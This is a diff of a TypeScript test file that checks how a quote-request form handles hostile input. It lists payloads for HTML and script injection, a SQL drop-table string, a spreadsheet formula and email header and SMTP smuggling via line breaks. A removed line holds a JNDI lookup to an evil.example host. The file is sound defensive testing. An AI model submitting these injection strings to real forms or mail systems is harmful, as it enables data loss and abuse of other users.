@@ -9,18 +9,15 @@ type Verdict = "as typed" | "aside" | "refused" | { stored: string };
 const payloads: [name: string, text: string, verdict: Verdict][] = [
   ["an element that closes ours", "</td></tr></table><h1>Pay now</h1>", "as typed"],
   ["an attribute that ends ours", 'x" onmouseover="alert(1)', "as typed"],
-  ["a style sheet", "<style>body{display:none}</style>", "as typed"],
   ["entities", "&lt;b&gt; &amp; &#60;", "as typed"],
   ["a script", "<script>alert(1)</script>", "as typed"],
-  ["SQL", "x'); drop table quote_requests; --", "as typed"],
+  // In a name: an address may have one.
   ["a link", '<a href="https://evil.example">click</a>', "aside"],
-  ["a filter of PostgREST", "eq.1,or=(id.gt.0)", "as typed"],
+  ["SQL", "x'); drop table quote_requests; --", "as typed"],
   ["a formula", '=HYPERLINK("x","y")', "as typed"],
-  ["an LDAP look-up", "${jndi:ldap://evil.example/x}", "as typed"],
   ["an encoded word", "=?utf-8?B?QmNjOiB4QGV4YW1wbGUuY29t?=", "as typed"],
   ["an encoded line break", "Jane%0d%0aBcc: victim@example.com", "as typed"],
   ["more addresses", "Jane <victim@example.com>, other@example.com", "as typed"],
-  ["quotes and a backslash", '"Jane\\" <x@example.com>', "as typed"],
   ["a line break", "Jane\r\nBcc: victim@example.com", { stored: "Jane Bcc: victim@example.com" }],
   ["a carriage return", "Jane\rX-Evil: 1", { stored: "Jane X-Evil: 1" }],
   ["a line separator", "Jane\u2028Bcc: x@example.com", { stored: "Jane Bcc: x@example.com" }],
@@ -36,7 +33,6 @@ const payloads: [name: string, text: string, verdict: Verdict][] = [
   ["Arabic", "محمد الأحمد", "as typed"],
   ["letters joined by invisible signs", "می‌خواهم ක්‍රිෂාන්", "as typed"],
   ["rare letters and emoji", "𐐖𐐲𐑊 👩‍👩‍👧‍👦", "as typed"],
-  ["Null", "Null", "as typed"],
 ];
 
 const columns = { firstName: "first_name", lastName: "last_name", address: "address" } as const;
@@ -56,11 +52,8 @@ const paragraphs = [
   "one\r\n.\r\nMAIL FROM:<x@example.com>\r\nRCPT TO:<victim@example.com>\r\nDATA",
   "a\n.\nb\r.\rc\r\n.\r\nd",
   "----_NmP-0000\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
-  "</td></table><h1>x</h1><style>*{}</style><input autofocus onfocus=x>",
-  "x".repeat(5000),
   "家".repeat(5000),
   '{"event":"request.received"}\n{"event":"forged"}',
-  "From me\nFrom you",
   "Plans: https://a.example and https://b.example",
 ].flatMap((details) =>
   cases(
@@ -74,7 +67,6 @@ const wrongEmails = [
   "jane@example.com\r\nBcc: victim@example.com",
   "jane@example.com%0aBcc:victim@example.com",
   "jane@example.com, victim@example.com",
-  "Jane <jane@example.com>",
   "jane@example.com?bcc=victim@example.com",
   '"ja\r\nne"@example.com',
   "@".repeat(30_000),
